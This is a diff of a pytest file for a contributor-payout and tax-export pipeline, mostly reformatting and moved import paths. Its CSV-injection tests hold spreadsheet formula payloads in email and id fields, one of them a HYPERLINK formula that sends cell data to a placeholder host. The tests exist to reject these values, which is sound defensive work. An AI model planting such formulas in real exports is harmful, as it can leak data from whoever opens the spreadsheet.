@@ -20,26 +20,26 @@ import re
 import shutil
 import stat
 import zipfile
-from datetime import date
+from datetime import UTC, date
 from pathlib import Path
 
 import dagster as dg
 import pyarrow as pa
 import pytest
-
 from conftest import encode_mp4
+
 from gopro_assets.cli import main
-from gopro_assets.finance.assets import payout_export
-from gopro_assets.finance.export import export_month, export_tax_year
-from gopro_assets.finance.gate import ExportRefused, gate_month
-from gopro_assets.lib import duck
-from gopro_assets.lib import exports as lib
-from gopro_assets.lib.exports import ExportDataError
-from gopro_assets.lib.delta_store import DeltaStore
-from gopro_assets.lib.landing import LANDING_KINDS
-from gopro_assets.lib.pipeline import run_all
-from gopro_assets.lib.report import SECTIONS, Section, build_report
-from gopro_assets.resources import LakehouseResource
+from gopro_assets.defs.finance.assets import payout_export
+from gopro_assets.defs.finance.export import export_month, export_tax_year
+from gopro_assets.defs.finance.gate import ExportRefused, gate_month
+from gopro_assets.domain.finance import exports as lib
+from gopro_assets.domain.finance.exports import ExportDataError
+from gopro_assets.domain.finance.report import SECTIONS, Section, build_report
+from gopro_assets.domain.ingestion.landing import LANDING_KINDS
+from gopro_assets.lake import duck
+from gopro_assets.lake.delta_store import DeltaStore
+from gopro_assets.shared.resources import LakehouseResource
+from gopro_tools.pipeline import run_all
 
 SUBSCRIBERS = """subscriber_id,email,country,subscribed_at,cancelled_at,invited_at
 s1,one@example.com,US,2024-11-01T00:00:00Z,,2024-11-15T00:00:00Z
@@ -52,11 +52,16 @@ UPLOADS = [
     {"clip_id": "c4", "subscriber_id": "s2", "object_key": "s2/c4.mp4", "uploaded_at": "2025-02-03T10:00:00Z"},
 ]
 DEAL = {
-    "deal_id": "D1", "buyer_id": "acme-ai", "buyer_name": "Acme AI", "signed_at": "2025-01-01T00:00:00Z",
+    "deal_id": "D1",
+    "buyer_id": "acme-ai",
+    "buyer_name": "Acme AI",
+    "signed_at": "2025-01-01T00:00:00Z",
     "pricing": {"model": "per_minute", "tier_prices_cents": {"sd": 2468}},
     "criteria": {},
-    "batches": [{"batch_id": "B1", "cutoff_at": "2025-01-31T23:59:59Z"},
-                {"batch_id": "B2", "cutoff_at": "2025-02-28T23:59:59Z"}],
+    "batches": [
+        {"batch_id": "B1", "cutoff_at": "2025-01-31T23:59:59Z"},
+        {"batch_id": "B2", "cutoff_at": "2025-02-28T23:59:59Z"},
+    ],
 }
 PAYOUTS = """payout_id,subscriber_id,statement_month,amount_cents,paid_at
 PX-1,s1,2025-01,1234,2025-02-10T00:00:00Z
@@ -69,11 +74,18 @@ def build_landing(root: Path) -> None:
     for folder in ("subscribers", "consent_events", "uploads", "deals", "buyer_payments", "payouts"):
         (root / folder).mkdir(parents=True)
     (root / "subscribers" / "s.csv").write_text(SUBSCRIBERS)
-    (root / "consent_events" / "c.jsonl").write_text("\n".join(json.dumps(
-        {"event_id": f"e-{s}", "subscriber_id": s, "event_at": "2024-12-02T00:00:00Z", "action": "opt_in"})
-        for s in ("s1", "s2", "s3")) + "\n")
-    (root / "uploads" / "u.jsonl").write_text("\n".join(json.dumps(
-        u | {"published": False, "activity": None, "mount": None}) for u in UPLOADS) + "\n")
+    (root / "consent_events" / "c.jsonl").write_text(
+        "\n".join(
+            json.dumps(
+                {"event_id": f"e-{s}", "subscriber_id": s, "event_at": "2024-12-02T00:00:00Z", "action": "opt_in"}
+            )
+            for s in ("s1", "s2", "s3")
+        )
+        + "\n"
+    )
+    (root / "uploads" / "u.jsonl").write_text(
+        "\n".join(json.dumps(u | {"published": False, "activity": None, "mount": None}) for u in UPLOADS) + "\n"
+    )
     (root / "deals" / "D1.json").write_text(json.dumps(DEAL))
     (root / "buyer_payments" / "p.csv").write_text(PAYMENTS)
     (root / "payouts" / "p.csv").write_text(PAYOUTS)
@@ -94,8 +106,9 @@ def built_lake(tmp_path_factory) -> Path:
 def lakehouse(built_lake, tmp_path) -> LakehouseResource:
     """A private copy of the built lake (tests may corrupt it) and a fresh exports folder."""
     shutil.copytree(built_lake / "lake", tmp_path / "lake")
-    return LakehouseResource(landing=str(built_lake / "landing"), lake=str(tmp_path / "lake"),
-                             exports=str(tmp_path / "exports"))
+    return LakehouseResource(
+        landing=str(built_lake / "landing"), lake=str(tmp_path / "lake"), exports=str(tmp_path / "exports")
+    )
 
 
 def read_csv(path: Path) -> list[dict]:
@@ -109,7 +122,15 @@ def month_files(lakehouse: LakehouseResource, month: str) -> dict[str, Path]:
 # -- money formatting and references ---------------------------------------------------
 def test_dollars_are_formatted_from_int_cents():
     assert [lib.dollars(c) for c in (0, 5, 99, 100, 1234, 100000, -5, -1234)] == [
-        "0.00", "0.05", "0.99", "1.00", "12.34", "1000.00", "-0.05", "-12.34"]
+        "0.00",
+        "0.05",
+        "0.99",
+        "1.00",
+        "12.34",
+        "1000.00",
+        "-0.05",
+        "-12.34",
+    ]
     assert lib.dollars(123456789, grouping=True) == "1,234,567.89"
     assert lib.dollars(10**20 + 1) == "1000000000000000000.01"  # no float rounding at any size
     with pytest.raises(TypeError):
@@ -134,12 +155,15 @@ def test_payout_csv_rows_and_amounts_match_hand_computed_cents(lakehouse):
     # s1: 1234 cents payable; s2 carries 617 (below $10): not in the file
     assert files["payouts"].read_bytes() == (
         b"payout_reference,subscriber_id,email,amount_usd,amount_cents,currency,statement_month\r\n"
-        + f"{ref1},s1,one@example.com,12.34,1234,USD,2025-01\r\n".encode())
+        + f"{ref1},s1,one@example.com,12.34,1234,USD,2025-01\r\n".encode()
+    )
 
     export_month(lakehouse, "2025-02")
     rows = read_csv(month_files(lakehouse, "2025-02")["payouts"])
-    assert [(r["subscriber_id"], r["email"], r["amount_usd"], r["amount_cents"], r["currency"], r["statement_month"])
-            for r in rows] == [("s2", "two@example.com", "10.29", "1029", "USD", "2025-02")]  # 617 + 412
+    assert [
+        (r["subscriber_id"], r["email"], r["amount_usd"], r["amount_cents"], r["currency"], r["statement_month"])
+        for r in rows
+    ] == [("s2", "two@example.com", "10.29", "1029", "USD", "2025-02")]  # 617 + 412
     assert rows[0]["payout_reference"] == lib.payout_reference("2025-02", "s2")
 
     export_month(lakehouse, "2025-03")  # a month with nothing payable: header only
@@ -185,8 +209,10 @@ def test_workbook_sheets_hold_statements_breaks_and_receivables(lakehouse):
 
     breaks = table("reconciliation_breaks")
     # February: s2's 1029 is not paid yet; buyer side: B2 (823) unpaid, B1 paid in full
-    assert [(b["side"], b["subscriber_id"], b["batch_id"], b["expected_cents"], b["actual_cents"], b["status"])
-            for b in breaks] == [("contributor", "s2", None, 1029, 0, "unpaid"), ("buyer", None, "B2", 823, 0, "unpaid")]
+    assert [
+        (b["side"], b["subscriber_id"], b["batch_id"], b["expected_cents"], b["actual_cents"], b["status"])
+        for b in breaks
+    ] == [("contributor", "s2", None, 1029, 0, "unpaid"), ("buyer", None, "B2", 823, 0, "unpaid")]
     receivables = {r["batch_id"]: r["status"] for r in table("receivables")}
     assert receivables == {"B1": "paid", "B2": "unpaid"}
 
@@ -201,13 +227,25 @@ def test_workbook_ids_are_text_never_formulas():
     from openpyxl import load_workbook
 
     con = duckdb.connect()
-    con.register("revenue_share_statements", pa.table({
-        "statement_month": ["2025-01"], "subscriber_id": ["=HYPERLINK(\"x\")"], "opening_balance_cents": [0],
-        "earned_cents": [1500], "total_cents": [1500], "payable_cents": [1500], "carried_forward_cents": [0],
-        "clips_licensed": [1], "billable_seconds": [10]}))
+    con.register(
+        "revenue_share_statements",
+        pa.table(
+            {
+                "statement_month": ["2025-01"],
+                "subscriber_id": ['=HYPERLINK("x")'],
+                "opening_balance_cents": [0],
+                "earned_cents": [1500],
+                "total_cents": [1500],
+                "payable_cents": [1500],
+                "carried_forward_cents": [0],
+                "clips_licensed": [1],
+                "billable_seconds": [10],
+            }
+        ),
+    )
     wb = load_workbook(io.BytesIO(lib.workbook_bytes(con, "2025-01")))
     cell = wb["statements"]["B2"]
-    assert cell.value == "=HYPERLINK(\"x\")" and cell.data_type == "s"
+    assert cell.value == '=HYPERLINK("x")' and cell.data_type == "s"
 
 
 # -- refusal ---------------------------------------------------------------------------
@@ -216,9 +254,15 @@ def corrupt_allocations(lakehouse: LakehouseResource) -> None:
     store = lakehouse.store()
     alloc = store.read("revenue_share_allocations")
     row = next(r for r in alloc.to_pylist() if r["subscriber_id"] == "s1")
-    store.overwrite("revenue_share_allocations", pa.concat_tables([
-        alloc.filter(pa.compute.not_equal(alloc["subscriber_id"], "s1")),
-        pa.Table.from_pylist([row | {"allocated_cents": row["allocated_cents"] + 1}], schema=alloc.schema)]))
+    store.overwrite(
+        "revenue_share_allocations",
+        pa.concat_tables(
+            [
+                alloc.filter(pa.compute.not_equal(alloc["subscriber_id"], "s1")),
+                pa.Table.from_pylist([row | {"allocated_cents": row["allocated_cents"] + 1}], schema=alloc.schema),
+            ]
+        ),
+    )
 
 
 def test_export_is_refused_when_a_blocking_check_fails(lakehouse):
@@ -255,26 +299,39 @@ def test_export_is_refused_for_a_month_the_lake_was_not_built_through(lakehouse,
 def test_dagster_asset_fails_loudly_and_writes_nothing_on_an_inconsistent_lake(lakehouse):
     corrupt_allocations(lakehouse)
     with dg.instance_for_test() as instance:
-        result = dg.materialize([payout_export], partition_key="2025-01-01", resources={"lakehouse": lakehouse},
-                                instance=instance, raise_on_error=False)
+        result = dg.materialize(
+            [payout_export],
+            partition_key="2025-01-01",
+            resources={"lakehouse": lakehouse},
+            instance=instance,
+            raise_on_error=False,
+        )
     assert not result.success
     failure = next(e for e in result.all_events if e.is_step_failure)
-    assert "REFUSED" in str(failure.event_specific_data.error) and "allocations_sum_to_pool" in str(failure.event_specific_data.error)
+    assert "REFUSED" in str(failure.event_specific_data.error) and "allocations_sum_to_pool" in str(
+        failure.event_specific_data.error
+    )
     assert not Path(lakehouse.exports).exists()
 
 
 # -- reproducibility -------------------------------------------------------------------
 def test_exports_are_byte_for_byte_reproducible_across_runs_and_entry_points(lakehouse, tmp_path):
-    from gopro_assets.lib.storage import FileRoot
+    from gopro_assets.lake.storage import FileRoot
 
     export_month(lakehouse, "2025-02", FileRoot(str(tmp_path / "a")))
     export_month(lakehouse, "2025-02", FileRoot(str(tmp_path / "b")))
     # the Dagster asset writes the very same bytes (single-run range of two months)
     dagster_lh = LakehouseResource(landing=lakehouse.landing, lake=lakehouse.lake, exports=str(tmp_path / "c"))
     with dg.instance_for_test() as instance:
-        result = dg.materialize([payout_export], instance=instance, resources={"lakehouse": dagster_lh},
-                                tags={"dagster/asset_partition_range_start": "2025-01-01",
-                                      "dagster/asset_partition_range_end": "2025-02-01"})
+        result = dg.materialize(
+            [payout_export],
+            instance=instance,
+            resources={"lakehouse": dagster_lh},
+            tags={
+                "dagster/asset_partition_range_start": "2025-01-01",
+                "dagster/asset_partition_range_end": "2025-02-01",
+            },
+        )
         assert result.success
         checks = result.get_asset_check_evaluations()
         assert [c.passed for c in checks] == [True]
@@ -301,8 +358,13 @@ def test_report_is_self_contained_html_with_plotly_inline(lakehouse):
     assert get_plotlyjs()[:2000] in html  # the library itself, inline
     assert not re.search(r"<script[^>]*\bsrc\s*=", html, re.I)  # no external script
     assert not re.search(r"<link[^>]*href\s*=\s*[\"']https?:", html, re.I)
-    for title in ("Revenue by deal and month", "Contributors&#x27; pool vs platform share", "Payout distribution",
-                  "Carried-forward balances", "Reconciliation breaks"):
+    for title in (
+        "Revenue by deal and month",
+        "Contributors&#x27; pool vs platform share",
+        "Payout distribution",
+        "Carried-forward balances",
+        "Reconciliation breaks",
+    ):
         assert f"<h2>{title}</h2>" in html, title
     # four charts of ours (other sections, e.g. valuation, may add more), fixed div ids
     assert html.count('class="plotly-graph-div"') >= 4
@@ -324,8 +386,10 @@ def test_report_sections_extension_point_and_missing_tables_are_skipped(lakehous
     assert "Revenue by deal and month (needs batch_revenue)" in html
     assert "Clip valuations (needs clip_valuations)" in html
 
-    con.register("clip_valuations", pa.table({"clip_id": ["c1", "c2"], "predicted_cents_per_minute": [10, 20],
-                                              "model_version": ["v1", "v1"]}))
+    con.register(
+        "clip_valuations",
+        pa.table({"clip_id": ["c1", "c2"], "predicted_cents_per_minute": [10, 20], "model_version": ["v1", "v1"]}),
+    )
     html = build_report(con, "2025-02", sections=sections).decode()
     assert "<h2>Clip valuations</h2>\n<p>2 clip(s) valued</p>" in html
 
@@ -336,27 +400,70 @@ def test_tax_summary_flags_1099_misc_from_ten_dollars(tmp_path):
     store = DeltaStore(str(tmp_path / "lake"))
 
     def st(month, sub, payable, carried=0):
-        return {"statement_month": month, "subscriber_id": sub, "opening_balance_cents": 0,
-                "earned_cents": payable + carried, "total_cents": payable + carried, "payable_cents": payable,
-                "carried_forward_cents": carried, "clips_licensed": 1, "billable_seconds": 10}
+        return {
+            "statement_month": month,
+            "subscriber_id": sub,
+            "opening_balance_cents": 0,
+            "earned_cents": payable + carried,
+            "total_cents": payable + carried,
+            "payable_cents": payable,
+            "carried_forward_cents": carried,
+            "clips_licensed": 1,
+            "billable_seconds": 10,
+        }
 
-    store.overwrite("revenue_share_statements", pa.Table.from_pylist([
-        st("2025-03", "a_999", 999),                                     # one cent short of $10
-        st("2025-04", "b_1000", 1000),                                   # exactly $10
-        st("2025-02", "c_split", 400), st("2025-11", "c_split", 600),    # $10 over two statements
-        st("2024-12", "d_outside", 5000), st("2026-01", "d_outside", 5000),  # other years
-        st("2025-06", "e_carried", 0, carried=800),                      # nothing payable
-    ]))
+    store.overwrite(
+        "revenue_share_statements",
+        pa.Table.from_pylist(
+            [
+                st("2025-03", "a_999", 999),  # one cent short of $10
+                st("2025-04", "b_1000", 1000),  # exactly $10
+                st("2025-02", "c_split", 400),
+                st("2025-11", "c_split", 600),  # $10 over two statements
+                st("2024-12", "d_outside", 5000),
+                st("2026-01", "d_outside", 5000),  # other years
+                st("2025-06", "e_carried", 0, carried=800),  # nothing payable
+            ]
+        ),
+    )
     payouts_schema = LANDING_KINDS["payouts"].schema
-    from datetime import datetime, timezone
-    store.overwrite("payouts", pa.Table.from_pylist([
-        {"payout_id": "P1", "subscriber_id": "b_1000", "statement_month": "2025-04", "amount_cents": 1000,
-         "paid_at": datetime(2025, 5, 2, tzinfo=timezone.utc), "_source_path": "payouts/a.csv", "_source_line": 2},
-        {"payout_id": "P1", "subscriber_id": "b_1000", "statement_month": "2025-04", "amount_cents": 1000,
-         "paid_at": datetime(2025, 5, 2, tzinfo=timezone.utc), "_source_path": "payouts/a.csv", "_source_line": 3},
-        {"payout_id": "P2", "subscriber_id": "d_outside", "statement_month": "2024-12", "amount_cents": 5000,
-         "paid_at": datetime(2025, 1, 3, tzinfo=timezone.utc), "_source_path": "payouts/a.csv", "_source_line": 4},
-    ], schema=payouts_schema))
+    from datetime import datetime
+
+    store.overwrite(
+        "payouts",
+        pa.Table.from_pylist(
+            [
+                {
+                    "payout_id": "P1",
+                    "subscriber_id": "b_1000",
+                    "statement_month": "2025-04",
+                    "amount_cents": 1000,
+                    "paid_at": datetime(2025, 5, 2, tzinfo=UTC),
+                    "_source_path": "payouts/a.csv",
+                    "_source_line": 2,
+                },
+                {
+                    "payout_id": "P1",
+                    "subscriber_id": "b_1000",
+                    "statement_month": "2025-04",
+                    "amount_cents": 1000,
+                    "paid_at": datetime(2025, 5, 2, tzinfo=UTC),
+                    "_source_path": "payouts/a.csv",
+                    "_source_line": 3,
+                },
+                {
+                    "payout_id": "P2",
+                    "subscriber_id": "d_outside",
+                    "statement_month": "2024-12",
+                    "amount_cents": 5000,
+                    "paid_at": datetime(2025, 1, 3, tzinfo=UTC),
+                    "_source_path": "payouts/a.csv",
+                    "_source_line": 4,
+                },
+            ],
+            schema=payouts_schema,
+        ),
+    )
     con = lib.connect_lake(store)
     rows = {r["subscriber_id"]: r for r in lib.tax_rows(con, 2025)}
     assert {s: (r["royalties_cents"], r["royalties_usd"], r["form_1099_misc"]) for s, r in rows.items()} == {
@@ -378,7 +485,9 @@ def test_tax_year_export_is_gated_and_refused_while_the_year_is_open(lakehouse):
     assert list(written.values()) == [str(path)]
     rows = {r["subscriber_id"]: r for r in read_csv(path)}
     assert {s: (r["royalties_cents"], r["form_1099_misc"]) for s, r in rows.items()} == {
-        "s1": ("1234", "true"), "s2": ("1029", "true")}
+        "s1": ("1234", "true"),
+        "s2": ("1029", "true"),
+    }
     with pytest.raises(ExportRefused, match="not over"):
         export_tax_year(lakehouse, 2099)
     corrupt_allocations(lakehouse)
@@ -412,24 +521,31 @@ def test_cli_export_end_to_end(lakehouse, tmp_path, monkeypatch, capsys):
     assert main(["export", "--month", "2025-1"]) == 2
 
 
-@pytest.mark.parametrize("email, payable", [
-    ("one@example.com", True),
-    ("first.last+tag@mail.example.co.uk", True),
-    ("=HYPERLINK(\"http://x.example/?\"&A1)@example.com", False),  # a formula in a spreadsheet
-    ("+1@example.com", False),
-    ("-2+3@example.com", False),
-    ("@example.com", False),
-    ("one@example", False),  # no dot in the domain
-    ("one two@example.com", False),
-    ("one@@example.com", False),
-    ("one@example.com\r\n=1+1", False),
-])
+@pytest.mark.parametrize(
+    "email, payable",
+    [
+        ("one@example.com", True),
+        ("first.last+tag@mail.example.co.uk", True),
+        ('=HYPERLINK("http://x.example/?"&A1)@example.com', False),  # a formula in a spreadsheet
+        ("+1@example.com", False),
+        ("-2+3@example.com", False),
+        ("@example.com", False),
+        ("one@example", False),  # no dot in the domain
+        ("one two@example.com", False),
+        ("one@@example.com", False),
+        ("one@example.com\r\n=1+1", False),
+    ],
+)
 def test_payout_file_takes_plain_addresses_only(email, payable):
     """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection): the
     payout file is refused, naming the subscriber, never showing the address."""
     con = duck.connect()
-    con.register("revenue_share_statements", pa.table({
-        "statement_month": ["2025-01", "2025-01"], "subscriber_id": ["s1", "s2"], "payable_cents": [1500, 2000]}))
+    con.register(
+        "revenue_share_statements",
+        pa.table(
+            {"statement_month": ["2025-01", "2025-01"], "subscriber_id": ["s1", "s2"], "payable_cents": [1500, 2000]}
+        ),
+    )
     con.register("subscribers", pa.table({"subscriber_id": ["s1", "s2"], "email": ["ok@example.com", email]}))
     assert lib.is_payable_address(email) is payable
     if payable:
